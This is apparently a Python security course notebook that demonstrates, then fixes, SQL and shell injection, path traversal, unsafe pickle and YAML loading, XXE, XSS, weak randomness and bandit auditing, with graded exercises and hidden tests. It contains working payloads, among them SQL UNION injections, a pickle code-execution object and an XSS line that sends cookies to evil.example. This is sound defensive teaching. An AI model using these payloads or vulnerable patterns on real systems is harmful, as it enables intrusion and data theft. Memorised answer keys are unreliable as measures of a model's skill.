# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
# ---

# %% [markdown] course={"kind": "intro"}
# **By the end of this section** you can break and then fix the classic holes in Python services (SQL, shell and
# LDAP injection, path traversal, unsafe deserialization, XXE, XSS), choose the right primitive for secrets and
# crypto (`secrets`, argon2, AES-GCM, RSA-OAEP), and audit code with `bandit` and with a scanner of your own.
#
# **What is real here.** Every attack in this notebook really runs, against real code, inside throw-away temporary
# folders and in-memory databases: the SQL is executed by **SQLite** (the `sqlite3` module), the shell is the real
# `/bin/sh`, the XML parsers, PyYAML, `pickle`, Jinja2, `cryptography`, `argon2-cffi` and `bandit` are the real
# libraries. We use SQLite rather than the course's PostgreSQL server on purpose: an injection lives in how the
# *application* glues text into SQL, which is the same for every database, and SQLite needs no server start.
# (With PostgreSQL and psycopg the placeholder is `%s` instead of `?`; everything else here carries over.)
# There is **no LDAP server**: the LDAP exercise builds filter strings only. Nothing leaves this machine.

# %% course={"kind": "setup", "id": "security-helpers"}
# What the demos and tests share. `scratch_dir(tag)` (course/runtime/scratch.py) is a new temporary folder that is
# removed when the kernel exits; `FakeClock` (course/runtime/clock.py) is a clock that moves only when told;
# `bandit_report` / `project` (course/runtime/lint.py) run the real bandit on a folder of files we write.
import ast
import hashlib
import hmac
import html
import os
import pickle
import random
import re
import secrets
import shlex
import sqlite3
import subprocess
import unicodedata
from pathlib import Path

from argon2 import PasswordHasher

from course.runtime.clock import FakeClock
from course.runtime.lint import bandit_report, project
from course.runtime.scratch import scratch_dir

# Cheap argon2 settings so that the notebook stays fast. Production uses the library defaults (or stronger).
HASHER = PasswordHasher(time_cost=1, memory_cost=8192, parallelism=1)


def shop_db() -> sqlite3.Connection:
    """A new in-memory shop: `users(id, name, role)`, `cards(user_id, number)` (what an attacker wants) and
    `products(name, price, stock, cost)` (`cost` is internal: customers must never sort or see by it)."""
    db = sqlite3.connect(":memory:")
    db.executescript(
        "CREATE TABLE users (id INTEGER PRIMARY KEY, name TEXT UNIQUE NOT NULL, role TEXT NOT NULL);"
        "INSERT INTO users VALUES (1, 'alice', 'admin'), (2, 'bob', 'customer'), (3, 'O''Brien', 'customer');"
        "CREATE TABLE cards (user_id INTEGER, number TEXT);"
        "INSERT INTO cards VALUES (1, '4111-1111-1111-1111'), (2, '5500-0000-0000-0004');"
        "CREATE TABLE products (name TEXT, price REAL, stock INTEGER, cost REAL);"
        "INSERT INTO products VALUES ('kettle', 25.0, 3, 9.0), ('anvil', 99.5, 1, 20.0),"
        " ('mug', 4.25, 40, 30.0), ('lamp', 12.0, 7, 1.5);"
    )
    return db


# %% [markdown] course={"kind": "lesson", "id": "owasp", "covers": ["c-owasp-top-10", "c-injection-attacks", "c-broken-authentication", "c-sensitive-data-exposure", "c-xml-external-entities", "c-broken-access-control", "c-security-misconfiguration", "c-cross-site-scripting-xss", "c-insecure-deserialization", "c-known-vulnerabilities", "c-insufficient-logging"]}
# ### The OWASP Top 10 as a map of this notebook
#
# The **OWASP Top 10** is a ranked list of web application risk categories, published by the Open Worldwide
# Application Security Project and revised every three or four years (2017, 2021, 2025). The ranking comes mostly
# from data on real applications that security testers contributed, plus a community survey for risks that tests
# find poorly. It is an awareness document, not a standard you "comply with": a checklist of what to look for in a
# review. The roadmap's list uses names from the 2017 edition (XXE, sensitive data exposure, insecure
# deserialization, insufficient logging); the **2021** edition regrouped them, and the **2025** edition reordered
# the list again. Reports and scanner rules you meet may cite either edition's codes, so the table gives both:
#
# | 2021 category | 2025 code | roadmap name (2017) | what goes wrong | where here |
# |---|---|---|---|---|
# | A01 Broken Access Control | A01 | broken access control | a user reaches data or files that are not theirs | path traversal lesson, `safe_join` |
# | A02 Cryptographic Failures | A04 | sensitive data exposure | plaintext secrets, weak or home-made crypto, ECB | crypto lesson, password hashing |
# | A03 Injection (XSS is in here since 2021) | A05 | injection, XSS | input becomes code: SQL, shell, LDAP, HTML | injection lessons, 4 exercises |
# | A04 Insecure Design | A06 | – | the flow itself is unsafe (a reset token that never expires) | reset-token exercise |
# | A05 Security Misconfiguration (XXE is in here since 2021) | A02 | misconfiguration, XXE | unsafe defaults, parser features left on | secure defaults, XML lesson |
# | A06 Vulnerable and Outdated Components | A03, widened to Software Supply Chain Failures | known vulnerabilities | a dependency with a published CVE, or a poisoned build | auditing lesson (`pip-audit`) |
# | A07 Identification and Authentication Failures | A07 | broken authentication | guessable tokens, no lockout, user enumeration | tokens, user service project |
# | A08 Software and Data Integrity Failures (deserialization is in here) | A08 | insecure deserialization | `pickle`/`yaml.load` of untrusted bytes | deserialization lesson |
# | A09 Security Logging and Monitoring Failures | A09 (Logging and *Alerting*) | insufficient logging | attacks leave no trace, or logs leak passwords | user service audit log |
# | A10 Server-Side Request Forgery | folded into A01 | – | the server fetches a URL the attacker chose | (not run here) |
#
# The one 2025 category with no 2021 ancestor is **A10 Mishandling of Exceptional Conditions**: errors handled so
# that the system fails *open* (the secure-defaults lesson shows one).
#
# **The one thing people get wrong:** treating the list as complete. It is the most *common* risks, ranked by data;
# a service that avoids all ten can still be broken by a logic flaw no list names.
#
# The demo looks the roadmap's 2017 names up in the 2021 list and follows each to its 2025 code: a handy map
# when an older checklist, scanner rule or audit report still uses the old names.

# %% course={"kind": "demo"}
OWASP_2021 = {
    "A01": "Broken Access Control", "A02": "Cryptographic Failures", "A03": "Injection", "A04": "Insecure Design",
    "A05": "Security Misconfiguration", "A06": "Vulnerable and Outdated Components",
    "A07": "Identification and Authentication Failures", "A08": "Software and Data Integrity Failures",
    "A09": "Security Logging and Monitoring Failures", "A10": "Server-Side Request Forgery",
}
OWASP_2025 = {
    "A01": "Broken Access Control", "A02": "Security Misconfiguration", "A03": "Software Supply Chain Failures",
    "A04": "Cryptographic Failures", "A05": "Injection", "A06": "Insecure Design", "A07": "Authentication Failures",
    "A08": "Software or Data Integrity Failures", "A09": "Security Logging and Alerting Failures",
    "A10": "Mishandling of Exceptional Conditions",
}
TO_2025 = {"A01": "A01", "A02": "A04", "A03": "A05", "A04": "A06", "A05": "A02", "A06": "A03", "A07": "A07",
           "A08": "A08", "A09": "A09", "A10": "A01"}
roadmap_2017 = {
    "Injection attacks": "A03", "Broken authentication": "A07", "Sensitive data exposure": "A02",
    "XML External Entities": "A05", "Broken access control": "A01", "Security misconfiguration": "A05",
    "Cross-site scripting (XSS)": "A03", "Insecure deserialization": "A08", "Known vulnerabilities": "A06",
    "Insufficient logging": "A09",
}
for old_name, code in roadmap_2017.items():
    print(f"{old_name:27} -> 2021 {code} {OWASP_2021[code]:43} -> 2025 {TO_2025[code]} {OWASP_2025[TO_2025[code]]}")
print("2021 categories no 2017 name maps to:", sorted(set(OWASP_2021) - set(roadmap_2017.values())))
print("2025 categories no 2021 one maps to: ", [f"{c} {OWASP_2025[c]}" for c in sorted(set(OWASP_2025) - set(TO_2025.values()))])

# %% [markdown] course={"kind": "lesson", "id": "sql-injection", "covers": ["c-injection-prevention", "c-sql-injection", "c-parameterized-queries"]}
# ### SQL injection: exploit it, then close it with parameters
#
# A query built by pasting user input into SQL text lets the input *change the query's structure*. The attacker
# closes your quote and writes SQL of their own. The fix is not escaping by hand but **parameterized queries**:
# the SQL text is fixed and the values travel separately (`?` in `sqlite3`, `%s` in psycopg), so the database
# never parses them as SQL, whatever characters they contain. The demo runs two classic payloads against a
# vulnerable lookup and the same payloads against the parameterized one.

# %% course={"kind": "demo"}
demo_db = shop_db()


def user_vulnerable(name: str) -> list[tuple]:
    return demo_db.execute(f"SELECT id, name, role FROM users WHERE name = '{name}'").fetchall()


def user_parameterized(name: str) -> list[tuple]:
    return demo_db.execute("SELECT id, name, role FROM users WHERE name = ?", (name,)).fetchall()


payloads = ["bob", "' OR '1'='1", "nobody' UNION SELECT user_id, number, 'stolen' FROM cards --", "O'Brien"]
for payload in payloads:
    try:
        leaked = user_vulnerable(payload)
    except sqlite3.Error as error:
        leaked = f"{type(error).__name__}: {error}"
    print(f"{payload!r}\n   f-string:      {leaked}\n   parameterized: {user_parameterized(payload)}")

# %% [markdown] course={"kind": "text"}
# Read the output: `' OR '1'='1` turns the `WHERE` into "always true" (a login check built this way lets anyone in
# as the first user, here the admin); the `UNION` payload appends a second query and reads the card numbers; and
# the honest customer `O'Brien` breaks the vulnerable version with a syntax error. The parameterized version
# answers all four correctly.
#
# **Identifiers cannot be parameters.** A placeholder stands for a *value*, never for a column or table name or a
# keyword such as `ASC`. `ORDER BY ?` is legal SQL but sorts by the constant string you passed, i.e. not at all.
# For a user-chosen sort column, map the input through an **allowlist** of known column names:

# %% course={"kind": "demo"}
print("ORDER BY ? with 'price':", demo_db.execute("SELECT name FROM products ORDER BY ?", ("price",)).fetchall())
SORTABLE = {"name": "name", "price": "price"}  # user word -> our own column name
print("allowlisted  'price':   ", demo_db.execute(f"SELECT name FROM products ORDER BY {SORTABLE['price']}").fetchall())
print("'cost' allowed?", "cost" in SORTABLE, "| 'price; DROP TABLE users' allowed?", "price; DROP TABLE users" in SORTABLE)

# %% [markdown] course={"kind": "lesson", "id": "command-injection", "covers": ["c-command-injection", "c-ldap-injection"]}
# ### Command injection and LDAP injection
#
# `subprocess.run(f"grep {word} notes.txt", shell=True)` hands one string to `/bin/sh`, and the shell reads `;`,
# `&&`, `|`, `$(...)` and backquotes as its own syntax. An input like `x; touch PWNED` runs a second command.
# The fix: pass an **argv list** and no shell (`subprocess.run(["grep", "-e", word, "notes.txt"])`): each item
# reaches the program as one argument, and no shell is involved. When a shell is truly needed, quote every piece
# with `shlex.quote`. One more trap: an argument starting with `-` is read as an *option* by most programs. `--`
# ends option parsing, and grep's `-e PATTERN` takes the next argument as the pattern even when it starts with `-`.
#
# **LDAP injection** is the same idea in LDAP search filters, such as `(&(objectClass=person)(uid=alice))`: a
# user name `*)(uid=*` changes the filter's structure. RFC 4515 says how to escape a value: the characters
# `*`, `(`, `)`, `\` and NUL are written as `\` plus two hex digits. (An exercise below writes the escaper; there is
# no LDAP server in this notebook.)

# %% course={"kind": "demo"}
box = scratch_dir("sec191-shell")
(box / "notes.txt").write_text("deploy on friday\nrollback plan\n", encoding="utf-8")
evil = "friday; touch PWNED"
# stdin=DEVNULL: the shell's first command becomes `grep -c friday` with no file, which would read stdin.
shell_run = subprocess.run(f"grep -c {evil} notes.txt", shell=True, cwd=box, capture_output=True, text=True,
                           stdin=subprocess.DEVNULL)
print("shell=True   -> PWNED created:", (box / "PWNED").exists(), "| exit", shell_run.returncode)
(box / "PWNED").unlink()
argv_run = subprocess.run(["grep", "-c", "-e", evil, "--", "notes.txt"], cwd=box, capture_output=True, text=True)
print("argv list    -> PWNED created:", (box / "PWNED").exists(), "| matches:", argv_run.stdout.strip())
print("shlex.quote  ->", "grep -c " + shlex.quote(evil) + " notes.txt")

# %% [markdown] course={"kind": "lesson", "id": "traversal", "covers": ["c-broken-access-control"]}
# ### Path traversal: `..`, absolute paths and symlinks
#
# A download endpoint that serves `base / user_path` serves `/etc/passwd` when `user_path` is `../../etc/passwd`,
# or simply `/etc/passwd`: `Path("base") / "/etc/passwd"` *is* `/etc/passwd`, the absolute part wins. A symlink
# inside the folder that points outside does the same without any `..` in the name. Checking the text
# (`".." in user_path`, `startswith(base)`) misses cases; the robust check works on the **resolved** path:
# `(base / user_path).resolve()` follows `..` and symlinks, then `is_relative_to(base.resolve())` (Python 3.9+)
# compares whole path components, so `/srv/files-evil` is not inside `/srv/files`.

# %% course={"kind": "demo"}
site = scratch_dir("sec191-paths")
(site / "public").mkdir()
(site / "public" / "readme.txt").write_text("hello", encoding="utf-8")
(site / "private.txt").write_text("db password: hunter2", encoding="utf-8")
(site / "public" / "shortcut").symlink_to(site / "private.txt")
public = site / "public"
for asked in ["readme.txt", "../private.txt", str(site / "private.txt"), "shortcut"]:  # the 3rd is absolute
    joined = public / asked
    naive_ok = ".." not in asked
    robust_ok = joined.resolve().is_relative_to(public.resolve())
    print(f"{asked if len(asked) < 20 else '/tmp/.../private.txt':>20}  text check: {'allow' if naive_ok else 'deny':5}  resolve check: {'allow' if robust_ok else 'deny'}")

# %% [markdown] course={"kind": "lesson", "id": "unsafe-parsers", "covers": ["c-insecure-deserialization", "c-xml-external-entities", "c-cross-site-scripting-xss"]}
# ### Parsers that run code: pickle, YAML, XML entities, HTML
#
# **pickle** is a program for a small virtual machine, not a data format: an object's `__reduce__` tells the
# loader "call this function with these arguments", and `pickle.loads` obeys. Never unpickle bytes you did not
# produce yourself (a model file from the internet included); use JSON, or sign the bytes (HMAC) and check before
# loading. The demo's payload only writes a file into a scratch folder, but it could call anything.

# %% course={"kind": "demo"}
loot = scratch_dir("sec191-pickle") / "owned.txt"


class Innocent:
    def __reduce__(self):  # what pickle will call at LOAD time
        return (Path(loot).write_text, ("code ran during pickle.loads",))


blob = pickle.dumps(Innocent())
print("payload bytes:", len(blob), "| file before loads:", loot.exists())
pickle.loads(blob)
print("file after loads:", loot.exists(), "->", loot.read_text())

# %% [markdown] course={"kind": "text"}
# **YAML** has the same problem through tags such as `!!python/object/apply:`. Since PyYAML 5.1 a bare
# `yaml.load(text)` warned, and in PyYAML 6 it is an error: `Loader` became a required argument. `yaml.safe_load`
# builds only plain types (dicts, lists, strings, numbers...) and refuses Python tags; `yaml.unsafe_load` (or
# `Loader=yaml.UnsafeLoader`) still runs them. The demo checks each on this machine's PyYAML.

# %% course={"kind": "demo"}
import yaml

tagged = "!!python/object/apply:len [[1, 2, 3]]"  # harmless: calls len(), but it could be os.system
print("PyYAML", yaml.__version__)
try:
    yaml.load(tagged)  # type: ignore[call-arg]
except TypeError as error:
    print("yaml.load(text):    TypeError:", error)
try:
    yaml.safe_load(tagged)
except yaml.YAMLError as error:
    print("yaml.safe_load:     refused:", type(error).__name__)
print("yaml.unsafe_load:   ran len() ->", yaml.unsafe_load(tagged))

# %% [markdown] course={"kind": "text"}
# **XML External Entities (XXE):** a document's DTD can declare an entity whose value is a file or URL
# (`<!ENTITY x SYSTEM "file:///etc/passwd">`), and a parser that expands it puts that file into the data, which
# may be echoed back to the attacker. Internal entities defined in terms of each other ("billion laughs") blow up
# memory. What this machine's parsers do, checked below: the standard library's `xml.etree.ElementTree` (expat)
# does **not** fetch external entities (it reports "undefined entity") but **does** expand internal ones;
# `defusedxml` 0.7.1 refuses any entity declaration with `EntitiesForbidden`. Other parsers (lxml, older
# Pythons, SAX with `feature_external_ges` turned on) behave differently: use `defusedxml` for untrusted XML and
# you do not have to remember which.

# %% course={"kind": "demo"}
import pyexpat
import xml.etree.ElementTree as ET

import defusedxml.ElementTree as safe_et

secret_file = scratch_dir("sec191-xml") / "secret.txt"
secret_file.write_text("TOP SECRET", encoding="utf-8")
xxe = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "{secret_file.as_uri()}">]><r>&x;</r>'
laughs = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;&b;</r>'
print("expat", pyexpat.EXPAT_VERSION)
for label, parse in [("ElementTree", ET.fromstring), ("defusedxml ", safe_et.fromstring)]:
    for name, document in [("external entity", xxe), ("nested entities", laughs)]:
        try:
            print(f"{label} {name}: text of {len(parse(document).text or '')} characters")
        except Exception as error:
            print(f"{label} {name}: {type(error).__name__}")

# %% [markdown] course={"kind": "text"}
# **Cross-site scripting (XSS)** is injection into HTML: a comment `<script>...</script>` rendered as-is runs in
# every visitor's browser. Escape on *output*, for the context you write into: `html.escape` turns `<`, `>`, `&`
# and (by default) both quotes into entities. Template engines do it for you when **autoescape** is on; Jinja2's
# plain `Environment()` has it **off** by default (Flask turns it on for `.html` templates).

# %% course={"kind": "demo"}
import jinja2

comment = '<script>fetch("https://evil.example/?c="+document.cookie)</script>'
print("html.escape:       ", html.escape(comment))
print("Jinja2 default:    ", jinja2.Environment().from_string("<p>{{ c }}</p>").render(c=comment))
print("Jinja2 autoescape: ", jinja2.Environment(autoescape=True).from_string("<p>{{ c }}</p>").render(c=comment))

# %% [markdown] course={"kind": "lesson", "id": "validation", "covers": ["c-input-validation", "c-sanitization", "c-validation-strategies", "c-allowlisting-vs-denylisting"]}
# ### Input validation: allowlists, normalise first, validate then use
#
# - **Allowlist over denylist.** Say what is allowed (`[a-z0-9_]{3,20}` for a user name, one of three sort
#   columns) rather than what is forbidden: a denylist of "bad" words misses the spelling you did not think of.
# - **Normalise first, then validate.** Unicode has many ways to write the "same" text: the fullwidth `＜` becomes
#   `<` under NFKC normalisation. If a later layer normalises *after* your check, the check saw a different string.
# - **Validate, then use the validated value**, not the raw one, and convert to the type you need (`int(...)`).
# - **Sanitization** (changing input to make it safe: stripping tags) is a last resort. It is easy to get wrong;
#   prefer rejecting bad input, and escaping for the output context (SQL parameters, HTML escaping, argv lists).
#
# Validation is a *first* line of defence, never the only one: the query is still parameterized behind it.

# %% course={"kind": "demo"}
def denylist_ok(text: str) -> bool:
    return "<script" not in text.lower()


NAME = re.compile(r"[a-z0-9_]{3,20}")
tries = ["alice_01", "<ScRiPt>x</script>", "<svg onload=alert(1)>", "\uff1cscript\uff1e", "ｅｖｅ", "ab"]
for text in tries:
    folded = unicodedata.normalize("NFKC", text)
    print(f"{text!r:26} denylist: {denylist_ok(text)!s:5}  NFKC: {folded!r:22} allowlist: {bool(NAME.fullmatch(folded))}")

# %% [markdown] course={"kind": "lesson", "id": "secure-defaults", "covers": ["c-secure-defaults", "c-principle-of-least-privilege", "c-fail-secure", "c-defense-in-depth", "c-security-misconfiguration"]}
# ### Secure defaults: least privilege, fail closed, defence in depth
#
# - **Least privilege:** every process, token and database login gets only what its job needs. A reporting job
#   connects read-only; a CI token can push to one repository, not administer the organisation. When it is
#   compromised (it will be), the damage is bounded.
# - **Fail secure (fail closed):** when a check itself breaks (the permission service times out, a config key
#   is missing), deny. Code of the shape `try: allowed = check() except Exception: allowed = True` fails *open*.
# - **Defence in depth:** several independent layers, so one mistake is not a breach: validate input,
#   parameterize the query, connect with a least-privilege login, log and alert, encrypt backups.
# - **Secure by default:** the safe setting needs no configuration (debug off, autoescape on, TLS verification
#   on); unsafe ones must be asked for explicitly and loudly.
#
# The demo shows least privilege enforced by the database itself (a read-only SQLite connection refuses a write
# even if the application is tricked into sending one) and a permission check failing open versus closed.

# %% course={"kind": "demo"}
data_dir = scratch_dir("sec191-ro")
with sqlite3.connect(data_dir / "app.db") as writer:
    writer.execute("CREATE TABLE orders (id INTEGER)")
writer.close()
reader = sqlite3.connect(f"{(data_dir / 'app.db').as_uri()}?mode=ro", uri=True)
try:
    reader.execute("DROP TABLE orders")
except sqlite3.OperationalError as error:
    print("read-only login, DROP TABLE ->", error)
reader.close()


def permission_service(user: str) -> bool:
    raise TimeoutError("permission service did not answer")


def can_delete_fail_open(user: str) -> bool:
    try:
        return permission_service(user)
    except Exception:
        return True  # "do not block users when the service is down"


def can_delete_fail_closed(user: str) -> bool:
    try:
        return permission_service(user)
    except Exception:
        return False


print("service down -> fail open allows:", can_delete_fail_open("mallory"), "| fail closed allows:", can_delete_fail_closed("mallory"))

# %% [markdown] course={"kind": "lesson", "id": "crypto", "covers": ["c-cryptography-basics", "c-hashing-bcrypt-argon2", "c-encryption-aes-rsa", "c-cryptography-library", "c-when-not-to-roll-your-own"]}
# ### Cryptography basics: hash, encrypt, and do not invent
#
# Section 12.4 built password hashing with PBKDF2 and HS256 JWTs by hand, to see the moving parts. Here we use the
# libraries a production service should use.
#
# | you need | use | one-way? |
# |---|---|---|
# | store a password | a slow, salted password hash: **argon2id** (`argon2-cffi`), bcrypt, scrypt | yes: you can only *verify* |
# | fingerprint data, check integrity | SHA-256 (`hashlib`) | yes, and fast (wrong for passwords) |
# | prove a message came from a key holder | HMAC-SHA256 (`hmac`) or a signature | – |
# | keep data secret and detect tampering | **AES-GCM** (authenticated encryption) with a random 96-bit nonce, never reused | no: decrypt with the key |
# | let anyone encrypt to you | **RSA-OAEP** (or hybrid: RSA/ECDH wraps an AES key) | no: decrypt with the private key |
#
# **Never ECB** (each 16-byte block encrypted on its own: equal blocks give equal ciphertext, so patterns show),
# never a nonce twice with GCM, never RSA without padding ("textbook RSA"). **When not to roll your own:**
# always, for the primitives and the protocols. Do not invent a cipher, a padding, a token format or a password
# hash; use `cryptography`'s high-level recipes (`Fernet`, `AESGCM`), TLS, argon2, and a maintained JWT library.
# Your job is choosing, configuring and storing keys, not designing algorithms.

# %% course={"kind": "demo"}
from cryptography.exceptions import InvalidTag
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

stored = HASHER.hash("correct horse")
print("argon2 hash:", stored[:40] + "...", "| same password hashed twice equal?", HASHER.hash("correct horse") == stored)
print("verify right:", HASHER.verify(stored, "correct horse"))

key = AESGCM.generate_key(bit_length=256)
nonce = os.urandom(12)
sealed = AESGCM(key).encrypt(nonce, b"card 4111-1111-1111-1111", b"user=42")
print("AES-GCM ciphertext + 16-byte tag:", len(sealed), "bytes | decrypts to", AESGCM(key).decrypt(nonce, sealed, b"user=42"))
tampered = bytes([sealed[0] ^ 1]) + sealed[1:]
try:
    AESGCM(key).decrypt(nonce, tampered, b"user=42")
except InvalidTag:
    print("one flipped bit -> InvalidTag (GCM detects tampering)")

ecb = Cipher(algorithms.AES(key), modes.ECB()).encryptor()  # shown only to see why not
blocks = ecb.update(b"ATTACK AT DAWN!!" * 2 + b"RETREAT AT NOON!") + ecb.finalize()
print("ECB: block 1 == block 2?", blocks[:16] == blocks[16:32], "(the repeat shows through)")

private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
oaep = padding.OAEP(mgf=padding.MGF1(algorithm=hashes.SHA256()), algorithm=hashes.SHA256(), label=None)
wrapped = private.public_key().encrypt(key, oaep)  # hybrid: RSA carries the AES key, AES carries the data
print("RSA-OAEP wrapped the AES key:", len(wrapped), "bytes | unwrapped equal:", private.decrypt(wrapped, oaep) == key)

# %% [markdown] course={"kind": "lesson", "id": "secure-random", "covers": ["c-secure-random", "c-secrets-module", "c-token-generation", "c-random-number-generation"]}
# ### Secure random: `secrets`, never `random`, for anything an attacker may guess
#
# `random` is a Mersenne Twister: fast, reproducible, fine for simulations and shuffling test data, and
# **predictable**. Anyone who knows the seed gets every value, and even without the seed, 624 consecutive 32-bit
# outputs are enough to rebuild the generator's whole state and predict every later value. `secrets` draws from
# the operating system's cryptographic generator (`os.urandom`): `secrets.token_bytes(n)`, `token_hex(n)`,
# `token_urlsafe(n)` (n random bytes, base64url without padding), `secrets.choice(seq)`.
# For tokens, 32 bytes (256 bits) is the usual default; 16 bytes (128 bits) is the floor.
#
# Comparing a secret with `==` can stop at the first differing byte, so the time taken leaks how much of a guess
# was right; `hmac.compare_digest(a, b)` is written so that its time does not depend on where the first difference
# is. (12.4 already used it.)
#
# The demo predicts a `random` generator twice: from its seed, and from 624 of its outputs alone.

# %% course={"kind": "demo"}
victim = random.Random(2026)
reset_code = victim.getrandbits(32)
print("victim's code:", reset_code, "| attacker re-seeding with 2026:", random.Random(2026).getrandbits(32))


def untemper(y: int) -> int:
    """Undo the Mersenne Twister's output scrambling, recovering one 32-bit word of its state."""
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    undone = y
    for _ in range(5):
        undone = y ^ ((undone << 7) & 0x9D2C5680)
    y = undone & 0xFFFFFFFF
    undone = y
    for _ in range(3):
        undone = y ^ (undone >> 11)
    return undone & 0xFFFFFFFF


seen = [victim.getrandbits(32) for _ in range(624)]  # e.g. 624 "random" ids the service showed us
clone = random.Random()
clone.setstate((3, tuple(untemper(v) for v in seen) + (624,), None))
future = [victim.getrandbits(32) for _ in range(5)]
print("victim's next 5:   ", future)
print("attacker predicts: ", [clone.getrandbits(32) for _ in range(5)])
print("secrets.token_urlsafe(32):", secrets.token_urlsafe(32), "(43 characters, 256 random bits)")

# %% [markdown] course={"kind": "lesson", "id": "auditing", "covers": ["c-known-vulnerabilities", "c-insufficient-logging"]}
# ### Auditing code: bandit, its report, and what it cannot see
#
# **bandit** parses each Python file into an AST and runs checks on it (`B602` subprocess with `shell=True`,
# `B301` pickle, `B608` SQL built from strings, `B105` a hard-coded password string...). It is fast and belongs in
# CI, with `-f json` for machines. It is a *pattern* matcher: it does not follow data from a request to a sink,
# so it misses what it has no rule for and flags safe code that looks risky. The demo runs the real bandit on two
# small files and shows both kinds of mistake.
#
# For **known vulnerabilities** in dependencies the tool is `pip-audit` (a separate `pip install`, not part of
# this course's dependencies), which checks your installed packages against public vulnerability databases (PyPI's
# advisories or OSV). It needs the network, so it is not run here; section 19.4 is about dependency security.
# **Insufficient logging** is the other half of an audit: can you tell, after the fact, who logged in, who failed
# and who was locked out? The user service project writes exactly such an audit trail.

# %% course={"kind": "demo"}
import importlib.metadata
import json

audited = project({
    "jobs.py": (
        "import subprocess\n"
        "def archive(name):\n"
        "    subprocess.run('tar czf backup.tgz ' + name, shell=True)\n"
        "def lookup(db, name):\n"
        "    return db.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n"
        "password = 'hunter2'\n"
    ),
    "sneaky.py": (
        "import os\n"
        "def archive(name):\n"
        "    getattr(os, 'sys' + 'tem')('tar czf backup.tgz ' + name)  # the same shell hole, spelled oddly\n"
        "def lookup(db, name):\n"
        "    query = ''.join([\"SELECT * FROM users WHERE name = '\", name, \"'\"])\n"
        "    return db.execute(query)  # the same SQL hole, built with join\n"
    ),
    "safe.py": (
        "import subprocess\n"
        "def status():\n"
        "    return subprocess.run(['git', 'status'], check=True)  # argv list, no shell: safe\n"
    ),
})
report = bandit_report(audited)
print("bandit", importlib.metadata.version("bandit"), "(the severities below are this version's)")
print("one finding as bandit's JSON has it:")
print(json.dumps({k: report["results"][1][k] for k in ("filename", "line_number", "test_id", "issue_severity", "issue_confidence", "issue_text")}, indent=1))
for r in report["results"]:
    print(f"{r['filename']}:{r['line_number']}  {r['test_id']}  {r['issue_severity']:6} {r['issue_confidence']:6} {r['issue_text'][:60]}")
print("findings in sneaky.py:", sum(r["filename"].endswith("sneaky.py") for r in report["results"]), "(two real holes missed: false negatives)")
print("findings in safe.py:  ", sum(r["filename"].endswith("safe.py") for r in report["results"]), "(LOW reminders on safe code: false positives to triage)")

# %% [markdown] course={"kind": "exercise", "id": "fix-user-lookup", "item": "x-identify-and-fix-sql-injection"}
# ### Fix an injectable lookup
#
# This lookup is what a code review found in a login service:
#
# ```python
# def find_user(db, name):
#     return db.execute(f"SELECT id, name, role FROM users WHERE name = '{name}'").fetchone()
# ```
#
# Rewrite `find_user(db, name)` so that it returns the row of the user whose name is **exactly** `name`, as the
# tuple `(id, name, role)`, or `None` when there is none, whatever characters `name` contains. With the shop of
# `shop_db()`: `find_user(db, "bob") == (2, "bob", "customer")`, `find_user(db, "' OR '1'='1") is None`.

# %% [markdown] course={"kind": "hint"}
# Do not try to clean the input. Keep the SQL text constant and pass the name separately.

# %% [markdown] course={"kind": "hint"}
# `db.execute("SELECT id, name, role FROM users WHERE name = ?", (name,)).fetchone()`: note the one-element
# tuple `(name,)`, and `=` (not `LIKE`, whose `%` and `_` are wildcards).

# %% course={"kind": "solution"}
def find_user(db: sqlite3.Connection, name: str) -> tuple[int, str, str] | None:
    ### BEGIN SOLUTION
    return db.execute("SELECT id, name, role FROM users WHERE name = ?", (name,)).fetchone()
    ### END SOLUTION

# %% course={"kind": "test", "points": 1}
_db = shop_db()
assert find_user(_db, "bob") == (2, "bob", "customer"), "bob is user 2, a customer"
assert find_user(_db, "carol") is None, "an unknown name gives None"

# %% course={"kind": "test", "points": 2}
_db = shop_db()
assert find_user(_db, "' OR '1'='1") is None, "the always-true payload must not log anyone in"
assert find_user(_db, "nobody' UNION SELECT user_id, number, 'x' FROM cards --") is None, "the UNION payload must leak nothing"
### BEGIN HIDDEN TESTS
assert find_user(_db, "x' OR 1=1 --") is None
assert find_user(_db, "alice'--") is None, "a comment payload must not match alice"
assert find_user(_db, "al%") is None and find_user(_db, "b_b") is None, "exact names only: no LIKE wildcards"
assert _db.execute("SELECT count(*) FROM users").fetchone() == (3,)
### END HIDDEN TESTS

# %% course={"kind": "test", "points": 1}
_db = shop_db()
assert find_user(_db, "O'Brien") == (3, "O'Brien", "customer"), "a real name with an apostrophe must work"
### BEGIN HIDDEN TESTS
_row = find_user(_db, "alice")
assert type(_row) is tuple and _row == (1, "alice", "admin")
assert find_user(_db, "Alice") is None, "names compare exactly (= is case-sensitive in SQLite)"
### END HIDDEN TESTS

# %% course={"kind": "wrong", "id": "strip-quotes"}
def find_user(db, name):
    name = name.replace("'", "")  # "sanitize" the input
    return db.execute(f"SELECT id, name, role FROM users WHERE name = '{name}'").fetchone()

# %% course={"kind": "wrong", "id": "denylist-or"}
def find_user(db, name):
    if " or " in name.lower():
        return None
    return db.execute(f"SELECT id, name, role FROM users WHERE name = '{name}'").fetchone()

# %% course={"kind": "wrong", "id": "like-wildcards"}
def find_user(db, name):
    return db.execute("SELECT id, name, role FROM users WHERE name LIKE ?", (name,)).fetchone()

# %% [markdown] course={"kind": "exercise", "id": "safe-order-by", "item": "x-use-parameterized-queries"}
# ### Sorting by a user-chosen column, safely
#
# A product page sorts by a column the visitor picks in the URL (`?sort=price&order=desc`) and shows only products
# up to a maximum price. Write `list_products(db, sort, order, max_price)` returning the product **names** (a
# list of `str`) with `price <= max_price`, sorted by `sort` (one of `"name"`, `"price"`, `"stock"`, exactly) in
# `order` (`"asc"` or `"desc"`, exactly). Anything else for `sort` or `order` raises `ValueError`; in particular the
# internal `cost` column is not sortable. `max_price` must be passed as a parameter.
# Example: `list_products(shop_db(), "price", "asc", 30) == ["mug", "lamp", "kettle"]`.

